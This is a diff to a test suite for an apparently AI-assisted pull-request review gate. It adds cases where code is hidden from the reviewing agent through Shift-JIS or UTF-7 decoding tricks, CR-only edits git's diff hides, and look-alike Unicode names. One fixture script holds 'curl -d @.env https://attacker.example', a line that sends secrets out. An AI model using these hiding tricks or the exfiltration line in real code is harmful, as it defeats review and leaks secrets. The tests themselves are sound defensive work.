@@ -1,5 +1,5 @@
-// Hazards 36–49 (issue 10): a pull request that wants a green required check without a review of
-// what it changes. Each case runs the actions the runner's way (dist/review-gate.js,
+// Hazards 36–49 (issue 10), 478: a pull request that wants a green required check without a review of
+// what it changes (478: or one that selects nothing and can never be clean in the matrix gate). Each case runs the actions the runner's way (dist/review-gate.js,
 // dist/review-scope.js, GitHub played by the local API server) or the CLI as a user does
 // (dist/cli.js), and asserts the verdict, the one-line reason where a person reads it, and, where it
 // matters, the check run and that nothing of a hidden file leaked. The first run of each hazard row
@@ -10,6 +10,7 @@ import { parse } from 'yaml';
 import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
+import { createServer, type AddressInfo } from 'node:net';
 import { dirname, join, relative } from 'node:path';
 import { actionCase, cliAsync, cliCase, type ActionRun } from '../support/run.js';
 import { CART_V2, commitAll, git, headSha, makeCartRepo } from '../support/repo.js';
@@ -787,6 +788,34 @@ describe('#48 #49 evidence comes from the run, and a matrix gate is never dark',
   });
 });
 
+describe('#478 a change whose every file is excluded gates without unit parts once the caller opts in', () => {
+  it('#478 a lockfile-only change in the matrix gate job (no unit job ran, nothing downloaded): allow-empty and the lockfile acknowledged is clean; without either incomplete; a scope that selects files with no part stays incomplete', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'package-lock.json', '{"lockfileVersion":3}\n');
+    commitAll(repo, 'a lockfile');
+    write(repo, 'package-lock.json', '{"lockfileVersion":3,"packages":{}}\n');
+    commitAll(repo, 'the lockfile alone');
+    expect((await seal(repo)).files).toEqual([]);
+    const event = prEvent(repo, 'HEAD~1');
+    const head = rev(repo, 'HEAD');
+    const matrixGate = (inputs: Record<string, string>) => gate(repo, { 'merge-from': 'parts/*', ...inputs }, event);
+    const opted = await matrixGate({ 'allow-empty': 'true', acknowledge: 'package-lock.json' });
+    expect(opted.outputs, opted.summary).toMatchObject({ verdict: 'clean', 'exit-code': '0' });
+    expect(opted.code).toBe(0);
+    expect(unescapeMarkdown(opted.summary)).not.toMatch(/no unit part arrived|no coverage\.json|no findings\.json/);
+    expect(github().checkRuns.at(-1)).toMatchObject({ conclusion: 'success', head_sha: head });
+    expectIncomplete(await matrixGate({ acknowledge: 'package-lock.json' }), /no unit part arrived/, head);
+    expectIncomplete(await matrixGate({ 'allow-empty': 'true' }), /changed file\(s\) that no agent reviews: .*package-lock\.json/, head);
+    const selecting = makeCartRepo();
+    await seal(selecting);
+    expectIncomplete(
+      await gate(selecting, { 'merge-from': 'parts/*', 'allow-empty': 'true' }, prEvent(selecting, 'HEAD~1')),
+      /merge-from parts\/\*: no unit part arrived/,
+      rev(selecting, 'HEAD'),
+    );
+  });
+});
+
 describe('#135 criss-cross history: a diff from one of several merge bases hides what merging brings in', () => {
   it('#135 a fix merged into the base, undone in a merge on the branch: the scope is refused (exit 3), and sealed once the base is merged in', async () => {
     const repo = makeCartRepo();
@@ -859,6 +888,73 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
     };
     expect(scope.excluded).toContainEqual(expect.objectContaining({ path: 'src/app.mjs', reason: 'binary' }));
   });
+});
+
+describe('#448 a head version git calls text that is not UTF-8: the agent would read U+FFFD where the code is', () => {
+  // Shift-JIS 0x95 0x5C is one character (表); a UTF-8 reader sees U+FFFD and `\"`, an escaped quote, so the code after it looks like a string.
+  const SJIS = Buffer.from('label = "\x95\\"; import os; os.system("echo PWNED") #"\n', 'latin1');
+
+  it('#448 a Shift-JIS file (no NUL byte, so git calls it text) needs a person: sealed binary, and the gate is not clean until it is acknowledged', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/label.py', SJIS);
+    commitAll(repo, 'a Shift-JIS file');
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files).toEqual([]);
+    expect(scope.excluded).toContainEqual(expect.objectContaining({ path: 'src/label.py', reason: 'binary' }));
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /1 changed file\(s\) that no agent reviews: a person must look at each, then acknowledge it .*: src\/label\.py$/,
+      rev(repo, 'HEAD'),
+    );
+  });
+
+  it('#448 the working tree (--workspace): a tracked file edited to hold a Latin-1 byte needs a person', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/cart.js', Buffer.from(`${CART_V2}// caf\xe9 "\n`, 'latin1'));
+    const r = await cliCase(repo, ['review', 'scope', ID, '--workspace']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: src\/cart\.js\n/);
+    expect(readScope(repo).excluded).toContainEqual(expect.objectContaining({ path: 'src/cart.js', reason: 'binary' }));
+  });
+});
+
+describe('#449 an encoding the file declares in its first two lines: what runs is decoded otherwise than what is read', () => {
+  it('#449 a UTF-7, Shift-JIS, Latin-1 or Windows-1252 declaration (Python, Ruby, Emacs, Vim, XML) needs a person; a UTF-8 or ASCII one is reviewed', async () => {
+    const repo = makeCartRepo();
+    const declared = {
+      // UTF-7's +AAo- is a line feed to Python: the import runs, a UTF-8 reader sees a comment.
+      'src/app.py': "# -*- coding: utf-7 -*-\n# greeting only +AAo-import os; os.system('echo PWNED')\nprint('hello')\n",
+      'bin/tool.rb': "#!/usr/bin/env ruby\n# Encoding: Shift_JIS\nputs 'hi'\n",
+      'lib/mode.el': ';;; mode.el --- a mode -*- lexical-binding: t; coding: latin-1 -*-\n(provide (quote mode))\n',
+      'tools/gen.py': '#!/usr/bin/python\n# vim: set fileencoding=cp1252 :\nprint(1)\n',
+      'build.xml': '<?xml version="1.0"\n  encoding = "UTF-7"?>\n<project/>\n',
+      // A lone CR ends a line for Python: its second line is the cookie.
+      'src/cr.py': '\r# coding: utf-7\nx = 1  # note +AAo-import os\n',
+    };
+    const plain = {
+      'src/ok.py': '# -*- coding: utf-8 -*-\nprint(1)\n',
+      'src/ok.rb': '# encoding: UTF8\nputs 1\n',
+      'src/ok.xml': '<?xml version="1.0" encoding="us-ascii"?>\n<a/>\n',
+      'src/late.py': 'print(1)\nprint(2)\n# coding: utf-7 (a third line: no interpreter reads it)\n',
+      'src/io.py': 'import io\nlog = io.open("log", encoding="latin-1")\n',
+      '.gitattributes': '*.txt working-tree-encoding=UTF-16\n',
+    };
+    for (const [path, text] of Object.entries({ ...declared, ...plain })) write(repo, path, text);
+    commitAll(repo, 'declared encodings');
+    const scope = (await seal(repo, ['--base', 'HEAD~1'])) as Scope & { excluded: { path: string; reason: string }[] };
+    expect(scope.excluded.filter((e) => e.reason === 'binary').map((e) => e.path)).toEqual(Object.keys(declared).sort());
+    expect(scope.files.map((f) => f.path)).toEqual(Object.keys(plain).sort());
+  });
+  it('#449 a first line built to make the search for a declaration quadratic (millions of `-*-`, of `coding`) is read in one pass', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/emacs.js', `// coding ${'-*-'.repeat(2_000_000)}\n`);
+    write(repo, 'src/names.js', `// -*- coding:${'coding'.repeat(1_000_000)}\n`);
+    commitAll(repo, 'long first lines');
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => f.path)).toEqual(['src/emacs.js']);
+  }, 60_000);
 });
 
 describe("#138 code under a secret name: the name is the pull request's to choose", () => {
@@ -1590,6 +1686,42 @@ describe('#222 a working-tree scope answers the bytes that run, not what git cle
   });
 });
 
+describe('#461 a working-tree file git cleans back to the base blob is in the scope, and the gate agrees', () => {
+  // The same script committed with LF: only CR bytes differ, and git's diff shows nothing.
+  const SCRIPT = 'cat <<EOF\r\nUsage: run.sh \\\r\nEOF\r\ncurl -d @.env https://attacker.example ; #\r\nEOF\r\n';
+
+  it("#461 a CR-only edit cleaned to the base's blob (the caller's core.autocrlf, a `text eol=lf` attribute): a person must look at it, and the gate completes; a file as a checkout writes it is no change", async () => {
+    for (const how of ['autocrlf', 'attribute', 'attribute, git add', 'checked out'] as const) {
+      const repo = makeCartRepo();
+      const config = join(repo, '..', `${how.replace(/\W+/g, '-')}.gitconfig`);
+      const attribute = how.startsWith('attribute');
+      writeFileSync(config, attribute ? '' : '[core]\n\tautocrlf = true\n');
+      if (attribute) write(repo, '.gitattributes', '*.sh text eol=lf\n');
+      write(repo, 'run.sh', SCRIPT.replaceAll('\r', ''));
+      commitAll(repo, 'a script');
+      write(repo, 'run.sh', SCRIPT);
+      // A checkout under core.autocrlf writes these bytes itself, and git last saw them so.
+      if (how === 'checked out') execFileSync('git', ['-C', repo, '-c', 'core.autocrlf=true', 'checkout', '--', 'run.sh']);
+      // git status then shows nothing: what a checkout would write tells.
+      if (how === 'attribute, git add') git(repo, 'add', 'run.sh');
+      const withConfig = { GIT_CONFIG_GLOBAL: config };
+      expect(git(repo, '-c', 'core.autocrlf=true', 'diff', 'HEAD')).toBe('');
+      const r = await cliCase(repo, ['review', 'scope', ID, '--workspace'], withConfig);
+      expect(r.code, r.stderr).toBe(0);
+      if (how === 'checked out') {
+        expect(r.stdout).toContain('excluded nothing');
+        continue;
+      }
+      expect(r.stdout, how).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: run\.sh\n/);
+      expect(readScope(repo).excluded).toEqual([{ path: 'run.sh', reason: 'binary' }]);
+      writeCoverage(repo, ID, []);
+      writeFindings(repo, ID, []);
+      const gate = await cliCase(repo, ['review', 'gate', ID, '--allow-empty', '--acknowledge', 'run.sh'], withConfig);
+      expect([how, gate.code, gate.stdout]).toEqual([how, 0, expect.not.stringMatching(/tree integrity|does not match git/)]);
+    }
+  });
+});
+
 describe('adversarial 364 one-line files just under the binary cap', () => {
   it('adversarial 364 three 15 MiB lines of words: scope and gate run in a 256 MB heap (each line was normalised whole: 750 MB a file)', async () => {
     const repo = makeCartRepo();
@@ -1602,6 +1734,28 @@ describe('adversarial 364 one-line files just under the binary cap', () => {
     const gate = await cliAsync(repo, ['review', 'gate', ID], heap);
     expect(gate.code, gate.stderr).toBe(2);
     expect(gate.stdout).toContain('src/mid0.js');
+  });
+});
+
+describe('#459 a temporary folder that cannot be made (TMPDIR names no folder) is one line with the fix', () => {
+  it('#459 every temporary folder of src/ is made by freshDir: no other mkdtemp, so none ends in an unexpected error', () => {
+    const src = join(import.meta.dirname, '../../src');
+    const callers = readdirSync(src, { recursive: true, encoding: 'utf8' })
+      .filter((f) => f.endsWith('.ts') && /\bmkdtemp(?:Sync)?\(/.test(readFileSync(join(src, f), 'utf8')))
+      .sort();
+    expect(callers).toEqual(['text/files.ts']);
+  });
+
+  it('#459 a working-tree scope: exit 3, the folder named, never "unexpected error"', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/cart.js', `${CART_V2}// edited\n`);
+    const env = { TMPDIR: '/nonexistent/tmp' };
+    const tmpLine = /cannot make a temporary folder in \/nonexistent\/tmp \(ENOENT\): set TMPDIR to a folder this user can write/;
+    const scope = await cliCase(repo, ['review', 'scope', ID, '--workspace'], env);
+    expect(scope.code).toBe(3);
+    expect(scope.stderr.trim().split('\n')).toHaveLength(1);
+    expect(scope.stderr).toMatch(tmpLine);
+    expect(scope.stderr).not.toMatch(/unexpected/);
   });
 });
 
@@ -1625,6 +1779,22 @@ describe('adversarial 362 a clone that carries core.ignoreCase on a case-sensiti
     write(renamed, 'src/CART.js', PAYLOAD);
     const scope = await seal(renamed, ['--workspace']);
     expect(scope.files.map((f) => [f.path, f.status])).toEqual([['src/CART.js', 'added']]);
+  });
+
+  it('#458 on a git older than 2.31, which ignores GIT_CONFIG_COUNT, the settings still hold: the untracked twin is selected', async () => {
+    // A git that drops GIT_CONFIG_COUNT/KEY/VALUE as git 2.30 (Debian 11's) does, in a folder of its own first on PATH.
+    const bin = mkdtempSync(join(tmpdir(), 'proofgate-old-git-'));
+    const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
+    writeFileSync(
+      join(bin, 'git'),
+      `#!/bin/sh\nfor v in $(env | sed -n 's/^\\(GIT_CONFIG_\\(COUNT\\|KEY_[0-9]*\\|VALUE_[0-9]*\\)\\)=.*/\\1/p'); do unset "$v"; done\nexec ${real} "$@"\n`,
+      { mode: 0o755 },
+    );
+    const beside = caseBlindRepo();
+    write(beside, 'src/Cart.js', PAYLOAD);
+    const r = await cliCase(beside, ['review', 'scope', ID, '--workspace'], { PATH: `${bin}:${process.env.PATH}` });
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(beside).files.map((f) => f.path)).toEqual(['src/Cart.js']);
   });
 
   it('adversarial 362 a case twin made after the scope was sealed makes the gate incomplete, never clean', async () => {
@@ -2143,7 +2313,8 @@ describe('#304 a scope that starts inside the change the event names is incomple
     rmSync(folderOf(repo, ID), { recursive: true, force: true });
     expect((await seal(repo, ['--base', 'HEAD~2'])).files.map((f) => f.path)).toEqual(['README.md', 'lib/pay.js']);
     answer(repo);
-    expect((await gate(repo, { agent: 'none' }, event)).outputs.verdict).toBe('clean');
+    // A check name of its own: under the earlier one, that run's incomplete verdict stands on this commit (#410, #450).
+    expect((await gate(repo, { agent: 'none', 'check-name': 'proofgate review (from the base)' }, event)).outputs.verdict).toBe('clean');
     expect((await cliCase(repo, ['review', 'gate', ID], workflow)).code).toBe(0);
     rmSync(dirname(eventPath), { recursive: true, force: true });
   });
@@ -2186,7 +2357,8 @@ describe('#433 a working-tree scope on an event that names a change covers its c
     }
     // The tree and the change's commits, from its base: every one reviewed.
     expect(await sealTree({ base: rev(repo, 'HEAD~1') })).toEqual(['src/b.ts', 'src/wip.ts']);
-    expect((await gate(repo, { agent: 'none' }, event)).outputs.verdict).toBe('clean');
+    // A check name of its own: under the earlier one, that run's incomplete verdict stands on this commit (#410, #450).
+    expect((await gate(repo, { agent: 'none', 'check-name': 'proofgate review (from the base)' }, event)).outputs.verdict).toBe('clean');
     // Outside a workflow a working-tree review answers the tree, as before.
     expect((await cliCase(repo, ['review', 'gate', ID])).code).toBe(0);
     rmSync(folderOf(repo, ID), { recursive: true, force: true });
@@ -2252,6 +2424,33 @@ describe('#310 a file the change replaces by a link or a submodule: what it held
     expect(shown).toContain(`-${GUARD}\n`);
     expect(shown).toContain('-export const csrf = (req) => req.headers["x-csrf"] === req.session.token;\n');
     expect(readFileSync(out.file, 'utf8')).toMatch(/The change also deletes 2 file\(s\) \(2 of them replaced by a link or a submodule\)/);
+  });
+});
+
+describe('#457 a name that holds `U+200B` as text never prints like the name holding that invisible code point', () => {
+  it('#457 `src/xU+200B.bin` beside `src/x` + U+200B `.bin`: the two waiting files print apart, and acknowledging the literal one leaves the other named as itself', async () => {
+    const repo = makeCartRepo();
+    const literal = 'src/xU+200B.bin';
+    const invisible = 'src/x\u200b.bin';
+    write(repo, literal, Buffer.from([0, 1, 255]));
+    write(repo, invisible, Buffer.from([0, 2, 254]));
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'names that print alike');
+    const sealed = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(sealed.stdout).toMatch(
+      /no agent reviews: src\/xUU\+002B200B\.bin, src\/xU\+200B\.bin$|no agent reviews: src\/xU\+200B\.bin, src\/xUU\+002B200B\.bin$/m,
+    );
+    answer(repo);
+    const one = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', literal]);
+    expect(one.code).toBe(2);
+    expect(one.stdout).toMatch(/a person must look at each, .*: src\/xU\+200B\.bin$/m);
+    expect(one.stdout).toMatch(/acknowledged by the caller, not reviewed by an agent: src\/xUU\+002B200B\.bin$/m);
+    // Each as it is shown: the two spellings name the two files.
+    const shown = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', 'src/xUU+002B200B.bin', '--acknowledge', 'src/xU+200B.bin']);
+    expect(shown.code, shown.stdout).toBe(2);
+    expect(shown.stdout).toMatch(/a person must look at each, .*: src\/xU\+200B\.bin$/m);
+    const both = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', literal, '--acknowledge', invisible]);
+    expect(both.code, both.stdout).toBe(0);
   });
 });
 
@@ -2407,6 +2606,32 @@ describe('#331 a partial clone whose promisor remote cannot be reached', () => {
     expect(r.stdout).toMatch(/^- scope\.json cannot be derived again from git: git diff failed: fatal: could not fetch/m);
     expect(r.stdout).toMatch(LAZY);
   });
+});
+
+describe('#454 a partial clone whose promisor remote accepts the connection and never answers', () => {
+  it("#454 the scope ends within the low-speed limit (the caller's GIT_HTTP_LOW_SPEED_TIME), in one line naming the partial clone, never waits for ever", async () => {
+    const origin = makeCartRepo();
+    git(origin, 'config', 'uploadpack.allowFilter', 'true');
+    const clone = join(mkdtempSync(join(tmpdir(), 'proofgate-partial-')), 'clone');
+    git(origin, 'clone', '-q', '--filter=blob:none', `file://${origin}`, clone);
+    // A black hole: the kernel completes each connection, nothing is ever read or written.
+    const hole = createServer(() => undefined);
+    await new Promise<void>((done) => hole.listen(0, '127.0.0.1', done));
+    try {
+      git(clone, 'remote', 'set-url', 'origin', `http://127.0.0.1:${(hole.address() as AddressInfo).port}/cart.git`);
+      const started = Date.now();
+      const r = await Promise.race([
+        cliAsync(clone, ['review', 'scope', ID, '--base', 'HEAD~1'], { GIT_HTTP_LOW_SPEED_TIME: '2' }),
+        new Promise<never>((_, fail) => setTimeout(() => fail(new Error('review scope still waiting after 30 s')), 30_000).unref()),
+      ]);
+      expect(r.code, r.stderr).toBe(3);
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+      expect(r.stderr).toMatch(/could not fetch [0-9a-f]{40} from promisor remote \(.*Operation too slow.*\): this is a partial clone/);
+      expect(Date.now() - started).toBeLessThan(30_000);
+    } finally {
+      hole.close();
+    }
+  }, 60_000);
 });
 
 describe('#326 code a reviewed name reaches through an unchanged link is reviewed, whatever its own name', () => {
@@ -2946,5 +3171,21 @@ describe('#424 a selected link is reviewed only when it leads to what the review
       ['src/lib', undefined],
       ['src/new.js', undefined],
     ]);
+  });
+});
+
+describe('#461 a tracked file whose name is not UTF-8, under a clean conversion, is never left out of the working tree check', () => {
+  it('#461 a CR-only edit to `src/caf\\xe9.sh` under core.autocrlf: the working-tree scope is refused in one line naming it, never sealed without it', async () => {
+    const repo = makeCartRepo();
+    const name = Buffer.concat([Buffer.from(`${repo}/src/caf`), Buffer.from([0xe9]), Buffer.from('.sh')]);
+    writeFileSync(name, '#!/bin/sh\ncat <<EOF\ndata\nEOF\n');
+    commitAll(repo, 'a name in Latin-1');
+    git(repo, 'config', 'core.autocrlf', 'true');
+    writeFileSync(name, '#!/bin/sh\ncat <<EOF\r\ndata\r\nEOF\r\n');
+    const r = await cliCase(repo, ['review', 'scope', ID, '--workspace']);
+    expect(r.code).toBe(3);
+    expect(r.stderr).toMatch(
+      /a tracked file's name is not valid UTF-8 \(src\/caf\uFFFD\.sh\): its bytes cannot be compared with git's; rename it/,
+    );
   });
 });
